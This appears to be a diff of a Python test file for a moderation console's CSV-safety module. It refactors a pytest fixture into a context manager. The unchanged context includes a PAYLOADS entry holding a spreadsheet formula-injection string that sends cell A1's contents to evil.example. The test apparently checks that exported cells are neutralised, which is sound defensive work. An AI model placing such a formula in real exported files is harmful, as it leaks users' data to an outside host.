@@ -25,7 +25,7 @@ from modconsole.cache.db import Cache
 from modconsole.csvsafe import SafeDictWriter, SafeWriter, cell
 from modconsole.demo.server import DemoServer
 from modconsole.services.moderation import ModerationService
-from tests.core.outbox_support import open_service
+from tests.core.outbox_support import opened_service
 
 PAYLOADS = {
     "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
@@ -88,12 +88,8 @@ def test_dict_writer_guards_header_and_rejects_unknown_fields() -> None:
 
 @pytest.fixture
 def service(demo_server: DemoServer, tmp_path: Path) -> Iterator[tuple[ModerationService, Cache]]:
-    svc, cache, client = open_service(tmp_path, demo_server)
-    try:
+    with opened_service(tmp_path, demo_server) as (svc, cache, _client):
         yield svc, cache
-    finally:
-        client.close()
-        cache.close()
 
 
 @CASES
